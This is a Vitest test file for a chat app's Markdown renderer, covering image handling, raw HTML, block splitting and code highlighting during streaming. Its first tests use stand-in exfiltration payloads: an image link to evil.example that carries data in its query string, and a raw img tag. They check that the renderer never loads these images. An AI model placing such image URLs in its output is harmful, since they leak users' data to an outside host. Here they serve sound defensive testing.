// @vitest-environment happy-dom
import { render } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { MarkdownBlock, MarkdownText } from '../../../pwa/src/chat/MarkdownText.tsx';
import { markdownBlocks } from '../../../pwa/src/chat/markdownBlocks.ts';

describe("an agent's Markdown", () => {
  it('shows an image as a link to it, never loading it', () => {
    const { container } = render(
      <MarkdownText text={'See ![the secret](https://evil.example/p.png?d=abc) and ![](/x.png)'} />,
    );
    expect(container.querySelectorAll('img')).toHaveLength(0);
    const links = [...container.querySelectorAll('a')].map((link) => ({
      href: link.getAttribute('href'),
      text: link.textContent,
      target: link.getAttribute('target'),
      rel: link.getAttribute('rel'),
    }));
    expect(links).toEqual([
      {
        href: 'https://evil.example/p.png?d=abc',
        text: 'the secret',
        target: '_blank',
        rel: 'noopener noreferrer',
      },
      { href: '/x.png', text: '/x.png', target: '_blank', rel: 'noopener noreferrer' },
    ]);
  });

  it('keeps raw HTML as text', () => {
    const { container } = render(<MarkdownText text={'<img src="https://evil.example/x">'} />);
    expect(container.querySelectorAll('img')).toHaveLength(0);
  });
});

const wholeAndBlocks: string[] = [
  '# Plan\n\nFirst a paragraph\nover two lines.\n\n- one\n- two\n\n- loose three\n\nThen text.',
  '1. first\n\n2. second\n\n   still second\n\nAfter the list.\n\n> quoted\n\n> again',
  'Code:\n\n```ts\nconst a = 1;\n\nconst b = 2;\n```\n\nAnd more:\n\n~~~\nplain\n\n~~~\n\n    indented\n\n    code',
  '| a | b |\n| - | - |\n| 1 | 2 |\n\nText between.\n\n| c |\n| - |\n| 3 |\n\n***\n\nend',
  '<!-- a comment\n\nover a blank line -->\n\nnext\n\n<pre>\n\n</pre>\n\nlast',
  'See [the docs][docs] and a note[^1].\n\n[docs]: https://example.com\n\n[^1]: The note.',
  'A list\n- a\n\n  - nested\n\n    deeper\n\nout ![img](/i.png) and https://example.com',
];

describe('Markdown rendered by blocks', () => {
  it.each(wholeAndBlocks)('renders a finished text as it renders whole: %#', (text) => {
    const byBlocks = render(<MarkdownText text={text} />).container.innerHTML;
    const whole = render(
      <div className="chat-markdown">
        <MarkdownBlock text={text} open={false} />
      </div>,
    ).container.innerHTML;
    expect(byBlocks).toBe(whole);
  });

  it('splits where a block ends, never inside a fence or a loose list', () => {
    expect(markdownBlocks(wholeAndBlocks[0]!)).toEqual([
      '# Plan',
      // Never before a list item: it might continue a list above.
      'First a paragraph\nover two lines.\n\n- one\n- two\n\n- loose three',
      'Then text.',
    ]);
    expect(markdownBlocks('```\na\n\nb\n```\n\nc')).toEqual(['```\na\n\nb\n```', 'c']);
    expect(markdownBlocks(wholeAndBlocks[5]!)).toHaveLength(1);
  });

  it('highlights code only in closed blocks while the text streams', () => {
    const text = '```js\nconst a = 1;\n```\n\n```js\nconst b = 2;';
    const { container, rerender } = render(<MarkdownText text={text} streaming />);
    const [closed, open] = container.querySelectorAll('code');
    expect(closed!.querySelector('.hljs-keyword')).not.toBeNull();
    expect(open!.querySelector('.hljs-keyword')).toBeNull();
    rerender(<MarkdownText text={'Code:\n\n```js\nconst c = 3;\n```\n'} streaming />);
    // A fence closed in the last block: highlighted, as more text may not come for a while.
    expect(container.querySelector('.hljs-keyword')).not.toBeNull();
    rerender(<MarkdownText text={text} />);
    expect(container.querySelectorAll('code')[1]!.querySelector('.hljs-keyword')).not.toBeNull();
  });
});
